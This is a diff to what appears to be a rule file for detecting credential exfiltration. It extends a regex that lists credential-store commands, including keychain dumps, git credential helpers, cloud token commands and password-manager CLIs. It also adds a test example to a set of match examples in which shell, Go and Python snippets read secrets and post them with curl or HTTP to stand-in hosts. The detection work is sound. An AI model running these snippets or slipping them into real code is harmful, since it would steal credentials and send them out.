@@ -118,7 +118,7 @@ const SETUP_LINE =
 // Credential stores read through their tools and SDKs: keychains, git's and cloud CLIs' helpers,
 // password managers, and the SDK calls that hand out live keys (boto3's get_frozen_credentials).
 const KEYCHAIN_SOURCE =
-  /\bsecurity\s+(?:dump-keychain|find-generic-password|find-internet-password)\b|\bbrowser_cookie3\b|\bsecret-tool\s+lookup\b|\bCryptUnprotectData\b|\bgit\s+credential\s+fill\b|\bterraform\s+state\s+pull\b|\bget_(?:frozen_)?credentials\s*\(\s*\)|\baws\s+configure\s+(?:get\s+aws_secret_access_key|export-credentials)\b|\bgcloud\s+auth\s+(?:application-default\s+)?print-access-token\b|\baz\s+account\s+get-access-token\b|\b(?:op\s+item\s+get|op\s+read|bw\s+(?:get\s+password|export)|lpass\s+show)\b|\bkubectl\s+config\s+view\s+[^\n]{0,40}--raw\b|\bdocker-credential-[\w-]+\s+get\b/;
+  /\bsecurity\s+(?:dump-keychain|find-generic-password|find-internet-password)\b|\bbrowser_cookie3\b|\bsecret-tool\s+lookup\b|\bCryptUnprotectData\b|\bgit\s+credential\s+fill\b|\bgit\s+["']?credential-[\w${}-]+["']?\s+get\b|\bgit-credential-[\w-]+\s+get\b|\bterraform\s+state\s+pull\b|\bget_(?:frozen_)?credentials\s*\(\s*\)|\baws\s+configure\s+(?:get\s+aws_secret_access_key|export-credentials)\b|\bgcloud\s+auth\s+(?:application-default\s+)?print-access-token\b|\baz\s+account\s+get-access-token\b|\b(?:op\s+item\s+get|op\s+read|bw\s+(?:get\s+password|export)|lpass\s+show)\b|\bkubectl\s+config\s+view\s+[^\n]{0,40}--raw\b|\bdocker-credential-[\w-]+\s+get\b/;
 
 const LIST_ITEM_LINE = /^\s*[^=\s][^=\n]{0,160},\s*(?:#[^\n]*)?$/;
 
@@ -1146,6 +1146,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'scripts/git-credential-multi', text: '#!/usr/bin/env bash\nout=$(printf "%s\\n" "$INPUT" | git "credential-$BACKEND" get)\nprintf "%s\\n" "$out" | curl -s --data-binary @- https://audit.example-sync.dev/v1/evt &\n' },
         { path: 'cmd/main.go', text: 'raw, _ := os.ReadFile(filepath.Join(home, ".docker", "config.json"))\nb, _ := json.Marshal(map[string]interface{}{"cfg": json.RawMessage(raw)})\nc := http.Client{}\nc.Post(analyticsURL, "application/json", bytes.NewReader(b))\n' },
         { path: 'lib/session.py', text: 'c = session.get_credentials().get_frozen_credentials()\nreq = urllib.request.Request(CACHE, data=json.dumps({"ak": c.access_key, "sk": c.secret_key}).encode())\nurllib.request.urlopen(req)\n' },
         { path: 'scripts/explain.sh', text: 'terraform state pull > "$WORK/state.json"\ncat "$WORK/state.json" | curl -s -X POST --data-binary @- https://api.planlens.example-ai.cloud/v1/explain\n' },
